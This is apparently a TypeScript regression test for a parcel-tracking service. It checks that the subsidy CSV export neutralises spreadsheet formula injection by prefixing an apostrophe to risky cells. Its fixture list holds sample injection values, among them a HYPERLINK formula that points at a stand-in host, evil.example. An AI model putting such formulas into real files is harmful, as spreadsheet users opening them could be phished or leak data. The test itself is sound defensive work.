import { startTestHub, type TestHub } from '../support/test-hub.js';
import { insertParcels, placesIn, type FixtureParcel } from './parcel-fixtures.js';

/**
 * Issue #11: a Kuaidi100 push put a `=HYPERLINK(...)` tracking number into the
 * subsidy CSV, which a spreadsheet program runs as a formula. Cells starting
 * with = + - @ (also full-width) or a tab or carriage return are neutralised
 * with a leading apostrophe (OWASP "CSV injection"); the rest is unchanged.
 */
let t: TestHub;
const HOSTILE = ['=HYPERLINK("http://evil.example/?x","claim")', '+86-1234567', '-2+3', '@SUM(A1:A9)', '\t=1+1', '\r=1+1', '＝1+1'];

beforeAll(async () => {
  t = await startTestHub();
  const p = await placesIn(t, '140821');
  const parcel = (tn: string, i: number): FixtureParcel => ({
    key: `inj-${i}`,
    trackingNumber: tn,
    direction: 'UPSTREAM',
    origin: p.villageA1,
    destination: '110105',
    pickedUpAt: '2026-06-02T10:00:00+08:00',
    deliveredAt: '2026-06-03T16:00:00Z',
    status: 'DELIVERED',
    scans: [
      { status: 'PICKED_UP', at: '2026-06-02T10:00:00+08:00', area: p.villageA1 },
      { status: 'DELIVERED', at: '2026-06-03T16:00:00Z', area: '110105' },
    ],
  });
  await insertParcels(t, 'csv-injection', [...HOSTILE.map(parcel), parcel('ZT-PLAIN-0001', 99)]);
});
afterAll(() => t.close());

it('neutralises cells that a spreadsheet would run as formulas, and leaves the others alone', async () => {
  const res = await fetch(`${t.url}/reports/subsidy.csv?county=140821&month=2026-06`, { headers: { authorization: `Bearer ${t.adminKey}` } });
  expect(res.status).toBe(200);
  const text = (await res.text()).replace(/^\uFEFF/, '');
  const cells = text
    .split('\r\n')
    .slice(1)
    .filter(Boolean)
    .map((line) => line.replace(/^"((?:[^"]|"")*)".*$|^([^,]*),.*$/s, (_m, quoted, bare) => (quoted ?? bare).replace(/""/g, '"')));
  for (const tn of HOSTILE) expect(cells).toContain(`'${tn}`);
  expect(cells).toContain('ZT-PLAIN-0001');
  // No cell of the file starts with a formula character any more.
  expect(text).not.toMatch(/(^|,|\r\n)"?[=+@＝]/);
});
